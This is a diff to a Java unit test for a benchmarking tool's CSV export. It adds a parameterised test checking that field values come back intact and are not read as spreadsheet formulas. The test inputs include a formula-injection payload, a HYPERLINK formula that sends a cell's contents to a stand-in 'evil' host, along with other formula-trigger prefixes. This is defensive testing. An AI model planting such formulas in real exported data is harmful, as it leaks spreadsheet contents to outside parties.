@@ -3,10 +3,15 @@ package threadmark.publish.site;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import java.util.List;
+import java.util.Optional;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 import threadmark.model.Examples;
 import threadmark.model.Measurement;
 import threadmark.model.Metric;
+import threadmark.model.Outcome;
+import threadmark.model.Trial;
 
 class TrialsCsvTest {
 
@@ -21,5 +26,38 @@ class TrialsCsvTest {
                             new Measurement(Metric.WALL, List.of(1.0, 2.0)),
                             new Measurement(Metric.WALL, List.of(9.0))))));
     assertThat(TrialsCsv.rows(text).getFirst()).containsEntry(Metric.WALL.label(), "1.5");
+  }
+
+  /** However it is written, a field comes back as it was, and no spreadsheet computes it. */
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "=HYPERLINK(\"http://evil/?\"&A1)",
+        "+1+2",
+        "-1+2",
+        "@SUM(A1)",
+        "\tx",
+        "\rx",
+        "'quoted",
+        "a\nb",
+        "a\rb",
+        "a,\"b\"",
+        "-5",
+        "1.5E-7"
+      })
+  void aFieldIsRecordedAndIsNoFormula(String reason) {
+    Trial trial =
+        Examples.trial(
+            "0001",
+            "b001",
+            1,
+            "virtual",
+            Outcome.FAILED,
+            Optional.of(reason),
+            Examples.quiet());
+    String text = TrialsCsv.text(Examples.run(trial, Examples.measured("0002", "b", "virtual", 1.0)));
+    assertThat(TrialsCsv.rows(text)).hasSize(2);
+    assertThat(TrialsCsv.rows(text).getFirst()).containsEntry("reason", reason);
+    assertThat(text.replace(",-5\n", "\n")).doesNotContainPattern("(^|,)\"?[=+@\t\r-]");
   }
 }
